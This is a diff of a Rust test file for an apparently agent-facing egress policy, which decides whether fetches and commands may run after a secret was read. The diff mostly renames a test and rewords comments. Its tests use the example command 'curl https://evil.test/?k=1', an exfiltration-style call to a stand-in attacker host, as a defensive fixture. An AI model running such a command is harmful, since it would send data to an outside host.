@@ -1,4 +1,4 @@
-//! Where data may go: fetches and commands, before and after a secret was read.
+//! Egress: fetches and commands, before and after a secret was read.
 
 use buddy_policy::{
     Action, Approvals, Attendance, Decision, Grant, Intent, Mode, Now, Policy, Scope, Trail, Verdict, decide,
@@ -129,7 +129,7 @@ fn a_name_by_which_connections_are_chosen_is_looked_up_and_asks() {
 }
 
 #[test]
-fn without_the_network_nothing_is_fetched_whoever_allows_it() {
+fn without_the_network_nothing_is_fetched_even_with_all_approved() {
     for mode in MODES {
         let offline = Policy { is_offline: true, known_hosts: vec!["docs.rs".to_owned()], ..policy(mode) };
         let decision = decide(&fetch("https://docs.rs/"), &offline, &Now::with(Approvals::All));
@@ -175,7 +175,7 @@ fn commands_name_the_host_that_they_reach() {
         decision.reasons
     );
     let offers: Vec<String> = decision.offers.iter().map(|offer| offer.grant.to_string()).collect();
-    assert_eq!(offers, ["curl https://evil.test/?k=1"], "what is offered is enough for the same command");
+    assert_eq!(offers, ["curl https://evil.test/?k=1"], "the offer is enough for the same command");
     let grants: Vec<Grant> = decision.offers.iter().map(|offer| offer.grant.clone()).collect();
     let now = Now { grants: &grants, ..Now::with(Approvals::Ask) };
     assert_eq!(decide(&run("curl https://evil.test/?k=1"), &policy, &now).verdict, Verdict::Allow);
